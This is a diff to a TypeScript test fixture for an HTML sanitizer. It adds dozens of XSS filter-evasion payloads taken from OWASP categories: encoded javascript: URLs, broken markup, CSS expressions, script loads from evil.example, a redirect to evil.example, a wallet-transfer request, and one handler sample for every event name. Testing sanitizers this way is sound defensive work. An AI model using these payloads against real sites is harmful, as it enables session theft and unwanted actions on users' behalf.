@@ -1,5 +1,32 @@
 const RUN = 'window.hacked=1';
 
+/** Each letter as a character reference, `&#106;` or `&#x6A;`, with zeros before it up to a length. */
+const coded = (text: string, radix: 10 | 16, length = 1): string =>
+  [...text]
+    .map((letter) => letter.charCodeAt(0).toString(radix).padStart(length, '0'))
+    .map((digits) => `&#${radix === 16 ? 'x' : ''}${digits};`)
+    .join('');
+
+const HANDLERS = (
+  'abort activate afterprint afterupdate animationcancel animationend animationiteration animationstart auxclick ' +
+  'beforeactivate beforecopy beforecut beforedeactivate beforeeditfocus beforeinput beforematch beforepaste ' +
+  'beforeprint beforetoggle beforeunload beforeupdate begin blur bounce cancel canplay canplaythrough cellchange ' +
+  'change click close contextmenu contextlost contextrestored controlselect copy cuechange cut dataavailable ' +
+  'datasetchanged datasetcomplete dblclick deactivate drag dragdrop dragend dragenter dragleave dragover dragstart ' +
+  'drop durationchange emptied end ended error errorupdate filterchange finish focus focusin focusout formdata ' +
+  'fullscreenchange gotpointercapture hashchange help input invalid keydown keypress keyup layoutcomplete load ' +
+  'loadeddata loadedmetadata loadstart losecapture lostpointercapture mediacomplete mediaerror message ' +
+  'messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel move moveend ' +
+  'movestart offline online outofsync pagehide pagereveal pageshow pageswap paste pause play playing pointercancel ' +
+  'pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate ' +
+  'progress propertychange ratechange readystatechange redo repeat reset resize resizeend resizestart resume ' +
+  'reverse rowdelete rowenter rowexit rowinserted rowsenter scroll scrollend scrollsnapchange securitypolicyviolation ' +
+  'seek seeked seeking select selectionchange selectstart show slotchange stalled start stop storage submit suspend ' +
+  'syncrestored timeerror timeupdate toggle touchcancel touchend touchmove touchstart trackchange transitioncancel ' +
+  'transitionend transitionrun transitionstart undo unhandledrejection unload urlflip visibilitychange volumechange ' +
+  'waiting webkitanimationend wheel'
+).split(' ');
+
 /**
  * Ways to get a script past a cleaning of HTML: through tags, attributes, addresses, entities, broken
  * markup, foreign content and what browsers put right by themselves. Each would set `window.hacked`.
@@ -109,4 +136,110 @@ export const HOSTILE: readonly string[] = [
   `<custom-tag onclick=${RUN}>x</custom-tag>`,
   `\u003cimg src=x onerror=${RUN}\u003e`,
   `<p id="content"><a id=location href="https://example.com">x</a></p>`,
+  // further families of the OWASP cheat sheet on the evasion of filters, one by one
+  `--></title></style></textarea></noscript></xmp></script><svg/onload=${RUN}>`,
+  `\\<a onmouseover="${RUN}"\\>x\\</a\\>`,
+  `<img src=# onmouseover="${RUN}">`,
+  `<img src= onmouseover="${RUN}">`,
+  `<img onmouseover="${RUN}">`,
+  `<img src=/ onerror="${coded(RUN, 10)}"></img>`,
+  `<img src="${coded(`javascript:${RUN}`, 10)}">`,
+  `<img src=${coded(`javascript:${RUN}`, 10, 7).replaceAll(';', '')}>`,
+  `<a href=${coded(`javascript:${RUN}`, 16).replaceAll(';', '')}>x</a>`,
+  `<a href="jav\tascript:${RUN}">x</a>`,
+  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
+  `<a href="jav&#x0D;ascript:${RUN}">x</a>`,
+  `<a href="j\na\nv\na\ns\nc\nr\ni\np\nt\n:${RUN}">x</a>`,
+  `<a href="java\0script:${RUN}">x</a>`,
+  `<scr\0ipt>${RUN}</scr\0ipt>`,
+  `<a href=" &#14;  javascript:${RUN}">x</a>`,
+  `<a href="\u00adjavascript:${RUN}">x</a>`,
+  `<script/xss src="https://evil.example/x.js"></script>`,
+  `<body onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${RUN}>`,
+  `<script/src="https://evil.example/x.js"></script>`,
+  `<script src=https://evil.example/x.js?< b >`,
+  `<img src="\`javascript:${RUN}\`"`,
+  `<iframe src=javascript:${RUN} <`,
+  `\\";${RUN};//`,
+  `<input type="image" src="javascript:${RUN}">`,
+  `<body background="javascript:${RUN}">`,
+  `<style>li{list-style-image:url("javascript:${RUN}")}</style><ul><li>x</br>`,
+  `<img src='vbscript:msgbox(1)'>`,
+  `<img src="livescript:${RUN}">`,
+  `<img src="mocha:${RUN}">`,
+  `Set.constructor\`${RUN}\``,
+  `<body onload =${RUN}>`,
+  `<br size="&{${RUN}}">`,
+  `<link rel="stylesheet" href="https://evil.example/x.css">`,
+  `<meta http-equiv="Link" content="<https://evil.example/x.css>; rel=stylesheet">`,
+  `<style>body{-moz-binding:url("https://evil.example/x.xml#x")}</style>`,
+  `<style>@im\\port'\\ja\\vasc\\ript:${RUN}';</style>`,
+  `<img style="x:expr/*x*/ession(${RUN})">`,
+  `exp/*<a style='no\\x:nox("*//*");x:ex/*x*//*/*/pression(${RUN})'>`,
+  `<style type="text/javascript">${RUN}</style>`,
+  `<style>.x{background-image:url("javascript:${RUN}")}</style><a class=x></a>`,
+  `<style type="text/css">body{background:url("<javascript:${RUN}>")}</style>`,
+  `<xss style="x:expression(${RUN})">`,
+  `<xss style="behavior: url(x.htc)">`,
+  `¼script¾${RUN}¼/script¾`,
+  `<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==">`,
+  `<meta http-equiv="refresh" content="0; url=https://;url=javascript:${RUN}">`,
+  `<iframe src=# onmouseover="${RUN}"></iframe>`,
+  `<table><td background="javascript:${RUN}">x</td></table>`,
+  `<p style="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061'\\0029">x</p>`,
+  `<p style="background-image: url(\u0001javascript:${RUN})">x</p>`,
+  `<p style="width:\nexpression(${RUN})">x</p>`,
+  `<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>`,
+  `<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:${RUN}></object>`,
+  `<embed src="https://evil.example/x.swf" AllowScriptAccess="always"></embed>`,
+  `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhhY2tlZD0xIi8+" type="image/svg+xml"></embed>`,
+  `<applet code="javascript:${RUN}"></applet>`,
+  `<layer src="https://evil.example/x.html"></layer>`,
+  `<xml id="x"><i><b><img src="javas<!-- -->cript:${RUN}"></b></i></xml><span datasrc="#x" datafld="b" dataformatas="html"></span>`,
+  `<xml src="x.xml" id=i></xml><span datasrc=#i datafld=c dataformatas=html></span>`,
+  `<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="x<script defer>${RUN}</script>">`,
+  `<script src="https://evil.example/x.jpg"></script>`,
+  `<!--#exec cmd="/bin/echo '<scr'"--><!--#exec cmd="/bin/echo 'ipt>${RUN}</script>'"-->`,
+  `<? echo('<scr'); echo('ipt>${RUN}</script>'); ?>`,
+  `<img src="https://canopy.example/api/Wallets/Transfer?Amount=1">`,
+  `<meta http-equiv="Set-Cookie" content="a=<script>${RUN}</script>">`,
+  `<head><meta http-equiv="content-type" content="text/html; charset=utf-7"></head>+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  `<script a=">" src="https://evil.example/x.js"></script>`,
+  `<script =">" src="https://evil.example/x.js"></script>`,
+  `<script a=">" '' src="https://evil.example/x.js"></script>`,
+  `<script "a='>'" src="https://evil.example/x.js"></script>`,
+  `<script a=\`>\` src="https://evil.example/x.js"></script>`,
+  `<script a=">'>" src="https://evil.example/x.js"></script>`,
+  `<script>document.write("<scri");</script>pt src="https://evil.example/x.js"></script>`,
+  `<a href="javascript:document.location='https://evil.example/'">x</a>`,
+  `<a href="javascript://%0a${RUN}">x</a>`,
+  `<a href="javascript:/*--></title></style>*/${RUN}">x</a>`,
+  `<img src = x onerror = "javascript: window.onerror = ${RUN}; throw 1">`,
+  `"><img src="x:x" onerror="${RUN}">`,
+  `"></script>”>’><script>${RUN}</script>`,
+  `<isindex x="javascript:" onmouseover="${RUN}">`,
+  `<img src=x:${RUN} onerror=eval(src)>`,
+  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
+  `<form id=test onforminput=${RUN}><input></form><button form=test onformchange=${RUN}>x</button>`,
+  `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${RUN}">x</maction></math>`,
+  `<img src="jar:https://evil.example!/x"><a href="jar:https://evil.example!/x">x</a>`,
+  // every handler that a browser has had a name for
+  ...HANDLERS.map((name) => `<p on${name}="${RUN}" tabindex=0>x</p>`),
 ];
+
+/** Ends whatever a sample has left open, so that it swallows no other. */
+const CLOSED =
+  `"'>--></script></style></textarea></title></noscript></template></select></svg></math></iframe>` +
+  '</object></xmp></applet><p>after it</p>';
+
+/** All samples in so many texts; in each, the paragraph `after it` stands behind every one of them. */
+export const hostileTexts = (parts: number): string[] =>
+  Array.from({ length: parts }, (_, part) =>
+    HOSTILE.filter((__, at) => at % parts === part)
+      // a null is refused before anything is read
+      .map((sample) => sample.replaceAll('\0', '') + CLOSED)
+      .join(''),
+  );
+
+/** How many samples such a text went through to its end. */
+export const samplesIn = (html: string): number => html.split('<p>after it</p>').length - 1;
